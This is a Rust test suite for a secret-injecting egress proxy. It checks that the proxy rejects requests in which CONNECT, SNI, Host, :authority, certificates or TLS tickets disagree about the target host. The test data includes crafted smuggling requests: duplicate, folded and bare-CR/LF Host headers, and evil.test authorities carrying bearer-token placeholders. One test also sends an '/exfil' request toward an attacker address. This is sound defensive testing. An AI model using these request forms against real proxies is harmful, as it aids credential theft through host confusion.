//! One connection that names two hosts: CONNECT, SNI, `Host`, `:authority`, the certificate, the pool, each against the others.
#![expect(clippy::unwrap_used, reason = "a test's set-up fails the test")]

use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rustls::client::{
    ClientSessionMemoryCache, ClientSessionStore, Resumption, Tls12ClientSessionValue,
    Tls13ClientSessionValue,
};
use rustls::pki_types::ServerName;
use rustls::{HandshakeKind, NamedGroup};

use super::harness::{Authority, Bed, Fields, H2End, Setup, fields, self_signed};

const API: &str = "api.allowed.test";

/// Each is refused with this inside a tunnel to the host, which is closed; nothing is dialled.
async fn refused_inside(requests: &[&str], status: u16, reason: &str) {
    let bed = Bed::p0().await;
    for request in requests {
        let mut talk = bed.inside(API, request).await;
        talk.answer().await.unwrap().is_denial(status, reason);
        assert!(talk.is_closed().await, "{request}");
    }
    bed.nothing_left();
    drop(bed.ended(2 * requests.len()).await);
}

async fn malformed_inside(requests: &[&str]) {
    refused_inside(requests, 400, "protocol_not_allowed").await;
}

/// A GET for `/` as HTTP/2 fields.
fn get<'a>(authority: &'a str, more: &[(&'a str, &'a str)]) -> Fields {
    let mut list =
        vec![(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", authority)];
    list.extend_from_slice(more);
    fields(&list)
}

fn answered(ends: &[H2End]) -> usize {
    ends.iter().filter(|end| matches!(end, H2End::Answer(_))).count()
}

#[tokio::test]
async fn FRONT_002_sni_of_another_host() {
    let bed = Bed::p0().await;
    let error = bed.tls("open.allowed.test:443", API, &["http/1.1"]).await.err().unwrap();
    assert!(error.to_string().contains("UnrecognisedName"), "{error}");
    bed.nothing_left();
    let events = bed.ended(2).await;
    assert_eq!(
        (&events[1]["reason"], &events[1]["host"]),
        (&"host_mismatch".into(), &"open.allowed.test".into())
    );
    assert!(events[1]["detail"].as_str().unwrap().contains(API));
}

#[tokio::test]
async fn FRONT_004_host_of_another_secret_host() {
    let bed = Bed::p0().await;
    let request =
        "GET / HTTP/1.1\r\nHost: b.allowed.test\r\nAuthorization: Bearer {{TOK_B}}\r\n\r\n";
    let mut talk = bed.inside(API, request).await;
    talk.answer().await.unwrap().is_denial(421, "host_mismatch");
    assert!(talk.is_closed().await);
    bed.nothing_left();
    let events = bed.ended(2).await;
    let detail = events[1]["detail"].as_str().unwrap();
    assert!(detail.contains("b.allowed.test") && detail.contains(API), "{detail}");
}

#[tokio::test]
async fn FRONT_005_an_h2_authority_that_is_denied() {
    let bed = Bed::p0().await;
    let evil = get("evil.test", &[("authorization", "Bearer {{TOK_A}}")]);
    let ends = bed.h2(API, &[evil, get(API, &[])]).await;
    ends[0].is_denial(421, "host_mismatch");
    assert_eq!(ends[1], H2End::Answer("ok".to_owned()));
    assert!(!bed.upstream.heard().contains("evil"), "{}", bed.upstream.heard());
    drop(bed.ended(3).await);
}

/// 421, as for every disagreement.
#[tokio::test]
async fn FRONT_006_h2_host_and_authority_differ() {
    let bed = Bed::p0().await;
    bed.h2(API, &[get(API, &[("host", "evil.test")])]).await[0].is_denial(421, "host_mismatch");
    bed.nothing_left();
    drop(bed.ended(2).await);
}

#[tokio::test]
async fn FRONT_009_h2_host_twice() {
    let bed = Bed::p0().await;
    let ends = bed.h2(API, &[get(API, &[("host", API), ("host", "evil.test")])]).await;
    ends[0].is_malformed();
    bed.nothing_left();
    drop(bed.ended(1 + answered(&ends)).await);
}

#[tokio::test]
async fn FRONT_010_h2_schemes() {
    for scheme in ["http", "https://evil.test/?x=", "file"] {
        let bed = Bed::p0().await;
        let list = [(":method", "GET"), (":scheme", scheme), (":path", "/"), (":authority", API)];
        let ends = bed.h2(API, &[fields(&list)]).await;
        ends[0].is_malformed();
        bed.nothing_left();
        drop(bed.ended(1 + answered(&ends)).await);
    }
}

/// Another port in the target is a disagreement, so 421.
#[tokio::test]
async fn FRONT_014_absolute_form_inside_tls() {
    malformed_inside(&[
        "GET http://api.allowed.test/ HTTP/1.1\r\nHost: api.allowed.test\r\nAuthorization: Bearer {{TOK_A}}\r\n\r\n",
    ])
    .await;
    let request = "GET https://api.allowed.test:8443/ HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n";
    refused_inside(&[request], 421, "host_mismatch").await;
}

const PORT_80: Setup = Setup {
    allow: &["open.allowed.test:80"],
    only: None,
    deny: &[],
    inside: false,
    resolver: None,
    two: false,
};

/// 421, as for every disagreement.
#[tokio::test]
async fn FRONT_015_target_allowed_and_host_denied() {
    let bed = Bed::with(PORT_80).await;
    let answer =
        bed.explicit("GET http://open.allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n").await;
    answer.is_denial(421, "host_mismatch");
    bed.nothing_left();
    drop(bed.ended(1).await);
}

#[tokio::test]
async fn FRONT_017_origin_form_on_the_explicit_port() {
    let bed = Bed::with(PORT_80).await;
    for host in ["open.allowed.test", "tollgate.internal"] {
        let answer = bed.explicit(format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n")).await;
        answer.is_denial(400, "protocol_not_allowed");
    }
    bed.nothing_left();
    drop(bed.ended(2).await);
}

#[tokio::test]
async fn FRONT_018_every_absolute_form_request_is_decided_alone() {
    let bed = Bed::with(PORT_80).await;
    let mut talk = bed.dial().await;
    talk.send(b"GET http://open.allowed.test/ HTTP/1.1\r\nHost: open.allowed.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n").await;
    assert_eq!(talk.answer().await.unwrap().status, 200);
    talk.answer().await.unwrap().is_denial(403, "host_not_allowed");
    drop(talk);
    assert!(!bed.upstream.heard().contains("evil"), "{}", bed.upstream.heard());
    drop(bed.ended(2).await);
}

#[tokio::test]
async fn FRONT_019_a_second_request_changes_host() {
    let bed = Bed::p0().await;
    let requests = "GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {{TOK_A}}\r\n\r\n";
    let mut talk = bed.inside(API, requests).await;
    assert_eq!(talk.answer().await.unwrap().status, 200);
    talk.answer().await.unwrap().is_denial(421, "host_mismatch");
    assert!(talk.is_closed().await);
    let heard = bed.upstream.heard();
    assert!(heard.matches("GET ").count() == 1 && !heard.contains("evil"), "{heard}");
    let events = bed.ended(3).await;
    let detail = events[2]["detail"].as_str().unwrap();
    assert!(detail.contains("evil.test") && detail.contains(API), "{detail}");
}

#[tokio::test]
async fn FRONT_020_host_twice() {
    malformed_inside(&[
        "GET / HTTP/1.1\r\nHost: api.allowed.test\r\nHost: evil.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: api.allowed.test\r\nHost: api.allowed.test\r\n\r\n",
    ])
    .await;
}

/// The transparent variant has the same strict reading; here it stands inside a tunnel.
#[tokio::test]
async fn FRONT_021_no_host() {
    malformed_inside(&["GET / HTTP/1.1\r\n\r\n", "GET / HTTP/1.0\r\n\r\n"]).await;
}

#[tokio::test]
async fn FRONT_022_white_space_around_host() {
    malformed_inside(&[
        "GET / HTTP/1.1\r\nHost : evil.test\r\nHost: api.allowed.test\r\n\r\n",
        "GET / HTTP/1.1\r\n Host: evil.test\r\nHost: api.allowed.test\r\n\r\n",
    ])
    .await;
}

#[tokio::test]
async fn FRONT_023_a_folded_host() {
    malformed_inside(&[
        "GET / HTTP/1.1\r\nHost: api.allowed.test\r\n evil.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost:\r\n api.allowed.test\r\n\r\n",
    ])
    .await;
}

#[tokio::test]
async fn FRONT_024_a_host_behind_a_bare_line_feed() {
    malformed_inside(&[
        "GET / HTTP/1.1\r\nHost: api.allowed.test\r\nX: a\nHost: evil.test\r\n\r\n",
    ])
    .await;
}

#[tokio::test]
async fn FRONT_025_a_host_behind_a_bare_carriage_return() {
    malformed_inside(&[
        "GET / HTTP/1.1\r\nX: a\rHost: evil.test\r\nHost: api.allowed.test\r\n\r\n",
    ])
    .await;
}

/// They are forwarded like every field: a request is not changed without need, and there is no option that removes them.
#[tokio::test]
async fn FRONT_026_override_fields_are_no_authority() {
    let bed = Bed::p0().await;
    let request = "GET / HTTP/1.1\r\nHost: api.allowed.test\r\nX-Forwarded-Host: evil.test\r\nX-Host: evil.test\r\nX-Original-URL: /admin\r\nForwarded: host=evil.test\r\nX-HTTP-Host-Override: evil.test\r\n\r\n";
    assert_eq!(bed.tunnel(API, request).await.status, 200);
    let connections = bed.upstream.connections();
    assert_eq!(connections.len(), 1);
    assert_eq!(connections[0].sni.as_deref(), Some(API));
    let heard = bed.upstream.heard();
    assert!(
        heard.starts_with("GET / HTTP/1.1\r\n") && heard.contains("Host: api.allowed.test\r\n"),
        "{heard}"
    );
    for event in bed.ended(2).await {
        assert_eq!(event["host"], API);
    }
}

#[tokio::test]
async fn FRONT_030_an_address_with_an_allowed_sni() {
    let bed = Bed::p0().await;
    let answer =
        bed.explicit("CONNECT 198.51.100.66:443 HTTP/1.1\r\nHost: 198.51.100.66:443\r\n\r\n").await;
    answer.is_denial(403, "host_not_allowed");
    bed.nothing_left();
    drop(bed.ended(1).await);
}

const WITH_SECRET: &str =
    "GET / HTTP/1.1\r\nHost: api.allowed.test\r\nAuthorization: Bearer {{TOK_A}}\r\n\r\n";

#[tokio::test]
async fn FRONT_031_upstream_certificates() {
    let bed = Bed::p0().await;
    let trusted = bed.upstream.authority.clone();
    let file = |name: &str| std::fs::read_to_string(bed.folder().join("certs").join(name)).unwrap();
    let ours = Authority::from_pem(&file("ca.pem"), &file("ca.key"));
    let certificates = [
        trusted.leaf("evil.test", |_| {}),
        trusted.leaf(API, |params| params.not_after = rcgen::date_time_ymd(2020, 1, 1)),
        self_signed(API),
        Authority::new(|_| {}).leaf(API, |_| {}),
        ours.leaf(API, |_| {}),
    ];
    let cases = certificates.len();
    for certificate in certificates {
        bed.upstream.present(certificate);
        bed.tunnel(API, WITH_SECRET).await.is_denial(502, "upstream_tls");
    }
    assert_eq!(bed.upstream.heard(), "");
    drop(bed.ended(2 * cases).await);
}

#[tokio::test]
async fn FRONT_032_h2_coalescing() {
    let bed = Bed::p0().await;
    let other = get("b.allowed.test", &[("authorization", "Bearer {{TOK_B}}")]);
    let ends = bed.h2(API, &[get(API, &[]), other]).await;
    assert_eq!(ends[0], H2End::Answer("ok".to_owned()));
    ends[1].is_denial(421, "host_mismatch");
    // The leaf covers one name only: TLS-022.
    drop(bed.ended(3).await);
}

#[tokio::test]
async fn FRONT_033_no_connection_serves_two_sandboxes() {
    let bed = Bed::with(Setup { two: true, ..Setup::default() }).await;
    for id in ["sb-one", "sb-two", "sb-one"] {
        let credentials = format!("{id}:{}", bed.session(id).proxy_token().reveal());
        let fields = format!("Proxy-Authorization: Basic {}\r\n", STANDARD.encode(credentials));
        let tunnel = bed.open_with("api.allowed.test:443", &fields).await;
        let mut talk = bed.tls_over(tunnel, API, bed.client_config()).await.unwrap();
        let request = if id == "sb-one" {
            WITH_SECRET
        } else {
            "GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n"
        };
        talk.send(&bed.expand(request.as_bytes())).await;
        assert_eq!(talk.answer().await.unwrap().status, 200);
    }
    let connections = bed.upstream.connections();
    assert_eq!(connections.len(), 2, "the first sandbox uses its own again");
    let text = |nth: usize| String::from_utf8_lossy(&connections[nth].bytes).into_owned();
    assert_eq!(text(0).matches("Bearer realvalueAAAA").count(), 2);
    assert!(text(1).matches("GET ").count() == 1 && !text(1).contains("Bearer"), "{}", text(1));
    assert!(!text(0).to_ascii_lowercase().contains("proxy-"));
    assert!(!connections[1].resumed, "a ticket of the other sandbox was offered");
    drop(bed.ended(6).await);
}

/// hyper hands neither ALTSVC nor ORIGIN frames on, so the field is what there is to strip.
#[tokio::test]
async fn FRONT_034_alt_svc() {
    let bed = Bed::p0().await;
    bed.upstream.answer(b"HTTP/1.1 200 OK\r\nAlt-Svc: h3=\"evil.test:443\"; ma=86400\r\nalt-svc: h2=\":8443\"\r\nContent-Length: 0\r\n\r\n");
    for host in [API, "open.allowed.test"] {
        let answer = bed.tunnel(host, format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n")).await;
        assert_eq!(answer.status, 200);
        assert!(!answer.head.to_ascii_lowercase().contains("alt-svc"), "{answer:?}");
    }
    drop(bed.ended(4).await);
}

#[tokio::test]
async fn FRONT_035_a_path_of_two_slashes() {
    let bed = Bed::p0().await;
    let answer =
        bed.tunnel(API, "GET //evil.test/ HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n").await;
    assert_eq!(answer.status, 200);
    assert_eq!(bed.upstream.connections()[0].sni.as_deref(), Some(API));
    let heard = bed.upstream.heard();
    assert!(heard.starts_with("GET //evil.test/ HTTP/1.1\r\n"), "{heard}");
    assert!(heard.contains("Host: api.allowed.test\r\n"), "{heard}");
    drop(bed.ended(2).await);
}

#[tokio::test]
async fn FRONT_037_connect_inside_a_tunnel() {
    refused_inside(
        &["CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"],
        405,
        "method_not_allowed",
    )
    .await;
    let bed = Bed::p0().await;
    let block = fields(&[(":method", "CONNECT"), (":authority", "evil.test:443")]);
    bed.h2(API, &[block]).await[0].is_denial(405, "method_not_allowed");
    bed.nothing_left();
    drop(bed.ended(2).await);
}

/// The second goes on in the canonical form, without the default port.
#[tokio::test]
async fn FRONT_038_a_port_in_host() {
    refused_inside(
        &["GET / HTTP/1.1\r\nHost: api.allowed.test:8443\r\n\r\n"],
        421,
        "host_mismatch",
    )
    .await;
    let bed = Bed::p0().await;
    let answer = bed.tunnel(API, "GET / HTTP/1.1\r\nHost: api.allowed.test:443\r\n\r\n").await;
    assert_eq!(answer.status, 200);
    let heard = bed.upstream.heard();
    assert!(heard.contains("Host: api.allowed.test\r\n"), "{heard}");
    drop(bed.ended(2).await);
}

#[tokio::test]
async fn FRONT_039_the_host_field_of_a_connect_says_nothing() {
    let bed = Bed::p0().await;
    let answer =
        bed.explicit("CONNECT api.allowed.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n").await;
    assert_eq!(answer.status, 200);
    let answer =
        bed.explicit("CONNECT evil.test:443 HTTP/1.1\r\nHost: api.allowed.test:443\r\n\r\n").await;
    answer.is_denial(403, "host_not_allowed");
    bed.nothing_left();
    // The opened tunnel ends before its first byte, which is an event too.
    let events = bed.ended(3).await;
    assert!(events.iter().any(|event| event["host"] == "evil.test" && event["verdict"] == "deny"));
}

/// Tickets of any server are offered to every other.
#[derive(Debug)]
struct Mixing(ClientSessionMemoryCache);

const ONE_NAME: &str = "one.test";

fn one_name() -> ServerName<'static> {
    ServerName::try_from(ONE_NAME).unwrap()
}

impl ClientSessionStore for Mixing {
    fn set_kx_hint(&self, _: ServerName<'static>, group: NamedGroup) {
        self.0.set_kx_hint(one_name(), group);
    }

    fn kx_hint(&self, _: &ServerName<'_>) -> Option<NamedGroup> {
        self.0.kx_hint(&one_name())
    }

    fn set_tls12_session(&self, _: ServerName<'static>, value: Tls12ClientSessionValue) {
        self.0.set_tls12_session(one_name(), value);
    }

    fn tls12_session(&self, _: &ServerName<'_>) -> Option<Tls12ClientSessionValue> {
        self.0.tls12_session(&one_name())
    }

    fn remove_tls12_session(&self, _: &ServerName<'static>) {
        self.0.remove_tls12_session(&one_name());
    }

    fn insert_tls13_ticket(&self, _: ServerName<'static>, value: Tls13ClientSessionValue) {
        self.0.insert_tls13_ticket(one_name(), value);
    }

    fn take_tls13_ticket(&self, _: &ServerName<'static>) -> Option<Tls13ClientSessionValue> {
        self.0.take_tls13_ticket(&one_name())
    }
}

#[tokio::test]
async fn FRONT_040_a_ticket_of_another_host() {
    let bed = Bed::p0().await;
    let mut config = bed.client_config();
    config.resumption = Resumption::store(Arc::new(Mixing(ClientSessionMemoryCache::new(64))));
    let kind = async |host: &'static str| {
        let mut talk = bed.tls_with(&format!("{host}:443"), host, config.clone()).await.unwrap();
        talk.send(format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes()).await;
        assert_eq!(talk.answer().await.unwrap().status, 200);
        talk.io.get_ref().1.handshake_kind().unwrap()
    };
    assert_eq!(kind(API).await, HandshakeKind::Full);
    assert_eq!(kind(API).await, HandshakeKind::Resumed);
    assert_eq!(kind("open.allowed.test").await, HandshakeKind::Full);
    // A ticket opens no other name either, nor none.
    assert!(bed.tls_with("api.allowed.test:443", "evil.test", config.clone()).await.is_err());
    let mut nameless = config.clone();
    nameless.enable_sni = false;
    assert!(bed.tls_with("api.allowed.test:443", API, nameless).await.is_err());
    let events = bed.ended(10).await;
    assert_eq!(events.iter().filter(|event| event["reason"] == "host_mismatch").count(), 2);
}

#[tokio::test]
async fn FRONT_041_other_versions() {
    malformed_inside(&["GET /\r\n", "GET / HTTP/01.1\r\nHost: evil.test\r\n\r\n"]).await;
    let requests = [
        "GET / HTTP/2.0\r\nHost: api.allowed.test\r\n\r\n",
        "GET / HTTP/1.9\r\nHost: api.allowed.test\r\n\r\n",
    ];
    refused_inside(&requests, 505, "protocol_not_allowed").await;
}

/// The address that the client dialled, where an attacker listens, gets nothing: the name is resolved here.
#[test]
fn FRONT_028_a_host_field_on_the_way_to_another_address() {
    use crate::support::{Tollgate, Upstream, namespace};
    const POLICY: &str = "
secretStores: { open: { egressAllowlist: [open.allowed.test] } }
sandboxes: { sb-one: { secretStores: [open], sources: [10.0.0.5] } }
";
    namespace::run(async || {
        let evil = std::net::TcpListener::bind("198.51.100.66:80").unwrap();
        evil.set_nonblocking(true).unwrap();
        let upstream = Upstream::http("open.allowed.test").answering(200, &[], "own").await;
        let listen = serde_json::json!({ "listen": { "transparent": ["127.0.0.1:0"] } });
        let tollgate = Tollgate::describe(POLICY, &[&upstream]).config(listen).start().await;
        namespace::redirect("ip daddr 198.51.100.0/24", tollgate.server().transparent()[0].port());
        let sandbox = tollgate.sandbox("sb-one").dialling_from("10.0.0.5".parse().unwrap());
        let address = evil.local_addr().unwrap();
        let answer = sandbox.get_at(address, "http://open.allowed.test/exfil").await;
        assert_eq!((answer.status, answer.text()), (200, "own".to_owned()));
        assert_eq!(upstream.requests().len(), 1);
        assert!(evil.accept().is_err(), "the address was dialled");
        tollgate.finish().await;
    });
}
